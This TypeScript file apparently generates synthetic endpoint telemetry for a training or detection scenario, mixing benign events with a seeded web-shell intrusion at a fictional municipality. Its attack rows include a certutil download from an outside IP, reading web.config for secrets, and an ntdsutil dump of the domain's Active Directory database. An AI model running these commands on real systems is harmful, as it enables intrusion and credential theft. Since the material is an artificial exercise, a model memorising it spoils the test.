import type { Customer } from '../../customers/customer.ts';
import type { RecordedEvents, RowOf } from '../tables/schemas.ts';
import {
  by,
  file,
  from,
  hour,
  momentsOf,
  on,
  otherFile,
  outside,
  signedIn,
  started,
  startedFile,
} from './events.ts';

/** The web server's own process, and the account it runs under. */
const pool = { domain: 'IIS APPPOOL', name: 'dokument', upn: '' };
const server = from('w3wp.exe', 4488, pool.name, 'w3wp.exe -ap "dokument"');

function processes(customer: Customer): RowOf<'DeviceProcessEvents'>[] {
  const { device1: web, device2: workstation, device3: controller } = customer.devices;
  const { account1: deployer, account2: admin } = customer.accounts;
  const { file1: tool, file3: archive } = customer.files;
  const [{ ip }] = customer.addresses;
  const at = momentsOf(customer);
  const fromWeb = (at: number, name: string, line: string) => ({
    ...on(web, at),
    ...started(name, line),
    ...by(pool),
    ...server,
  });
  const onController = (at: number, name: string, line: string) => ({
    ...on(controller, at),
    ...started(name, line),
    ...by(admin),
    ...from('wsmprovhost.exe', 5120, admin.name),
  });
  return [
    // Innocent: the web server compiles a page, and administrators use their shells.
    fromWeb(at('upload') - 90 * hour, 'csc.exe', 'csc.exe /noconfig @"C:\\Windows\\Temp\\page.cmdline"'),
    {
      ...on(workstation, at('upload') - 11 * hour),
      ...started('powershell.exe', 'powershell.exe Get-ADUser -Filter *'),
      ...by(admin),
      ...from('explorer.exe', 3312, admin.name),
    },
    {
      ...on(web, at('upload') - 70 * hour),
      ...started('cmd.exe', `cmd.exe /c robocopy \\\\${workstation.name}\\webb C:\\inetpub\\wwwroot /mir`),
      ...by(deployer),
      ...from('msdepsvc.exe', 2204, deployer.name),
    },
    fromWeb(at('commands'), 'cmd.exe', 'cmd.exe /c whomai'),
    fromWeb(at('commands', 11), 'cmd.exe', 'cmd.exe /c whoami'),
    fromWeb(at('commands', 58), 'cmd.exe', 'cmd.exe /c net uesr /domain'),
    fromWeb(at('commands', 73), 'cmd.exe', 'cmd.exe /c net user /domain'),
    fromWeb(
      at('tool', -12),
      'certutil.exe',
      `certutil.exe -urlcache -f http://${ip}/${tool.name} ${tool.folder}${tool.name}`,
    ),
    fromWeb(at('passwordInFile'), 'cmd.exe', 'cmd.exe /c type C:\\inetpub\\wwwroot\\dokument\\web.config'),
    { ...fromWeb(at('tool', 95), '', ''), ...startedFile(tool), ProcessId: 6072 },
    onController(
      at('directoryCopy'),
      'ntdsutil.exe',
      'ntdsutil.exe "ac i ntds" ifm "create full C:\\Windows\\Temp\\c" q q',
    ),
    onController(
      at('archive', -20),
      'powershell.exe',
      `powershell.exe Compress-Archive C:\\Windows\\Temp\\c ${archive.folder}${archive.name}`,
    ),
  ];
}

function files(customer: Customer): RowOf<'DeviceFileEvents'>[] {
  const { device1: web, device3: controller } = customer.devices;
  const { account1: deployer, account2: admin } = customer.accounts;
  const { file1: tool, file2: shell, file3: archive } = customer.files;
  const at = momentsOf(customer);
  const created = { ActionType: 'FileCreated' };
  return [
    // Innocent: a new version is published, forms are sent in, and the web server compiles a page.
    {
      ...on(web, at('upload') - 70 * hour),
      ...created,
      ...otherFile('C:\\inetpub\\wwwroot\\dokument\\', 'blankett.aspx'),
      ...from('msdepsvc.exe', 2204, deployer.name),
    },
    ...[52, 31, 8].map((hours, index) => ({
      ...on(web, at('upload') - hours * hour),
      ...created,
      ...otherFile('C:\\inetpub\\wwwroot\\dokument\\inkommet\\', `ansokan-${2207 + index}.pdf`),
      ...server,
    })),
    {
      ...on(web, at('upload') - 69 * hour),
      ...created,
      ...otherFile(
        'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\dokument\\',
        'blankett.aspx',
      ),
      ...server,
    },
    { ...on(web, at('webShell')), ...created, ...file(shell), ...server },
    { ...on(web, at('tool')), ...created, ...file(tool), ...from('certutil.exe', 7404, pool.name) },
    {
      ...on(controller, at('archive')),
      ...created,
      ...file(archive),
      ...from('powershell.exe', 5940, admin.name),
    },
    { ...on(web, at('archive', 140)), ...created, ...file(archive), ...from('System', 4, admin.name) },
    {
      ...on(controller, at('archive', 205)),
      ActionType: 'FileDeleted',
      ...file(archive),
      ...from('wsmprovhost.exe', 5120, admin.name),
    },
  ];
}

function logons(customer: Customer): RowOf<'DeviceLogonEvents'>[] {
  const { device1: web, device2: workstation, device3: controller } = customer.devices;
  const { account1: deployer, account2: admin } = customer.accounts;
  const at = momentsOf(customer);
  const network = { ActionType: 'LogonSuccess', LogonType: 'Network', RemoteIPType: 'Private' };
  return [
    {
      ...on(web, at('upload') - 71 * hour),
      ...network,
      ...signedIn(deployer),
      RemoteDeviceName: workstation.name,
      RemoteIP: workstation.ip,
    },
    {
      ...on(workstation, at('smbSignIn')),
      ...network,
      ...signedIn(deployer),
      RemoteDeviceName: web.name,
      RemoteIP: web.ip,
    },
    {
      ...on(controller, at('remoteSession')),
      ...network,
      ...signedIn(admin),
      RemoteDeviceName: workstation.name,
      RemoteIP: workstation.ip,
    },
  ];
}

function network(customer: Customer): RowOf<'DeviceNetworkEvents'>[] {
  const { device1: web, device2: workstation, device3: controller } = customer.devices;
  const [{ ip }] = customer.addresses;
  const at = momentsOf(customer);
  const fetched = { ...outside(ip ?? '', '', 80), LocalIP: web.ip };
  const asked = { ...fetched, ActionType: 'InboundConnectionAccepted', RemotePort: 51_422 };
  return [
    { ...on(web, at('upload')), ...asked, ...server },
    { ...on(web, at('tool', -10)), ...fetched, ...from('certutil.exe', 7404, pool.name) },
    {
      ...on(workstation, at('remoteSession')),
      ActionType: 'ConnectionSuccess',
      RemoteIP: controller.ip,
      RemoteIPType: 'Private',
      RemotePort: 5985,
      LocalIP: workstation.ip,
      ...from('powershell.exe', 6624, customer.accounts.account2.name),
    },
    { ...on(web, at('download')), ...asked, ...server },
  ];
}

/** What was recorded at Björkhamra kommun: facts 11, scenario 3, among things that are as they should be. */
export const bjorkhamraEvents = (customer: Customer): RecordedEvents => ({
  DeviceLogonEvents: logons(customer),
  DeviceProcessEvents: processes(customer),
  DeviceFileEvents: files(customer),
  DeviceNetworkEvents: network(customer),
});
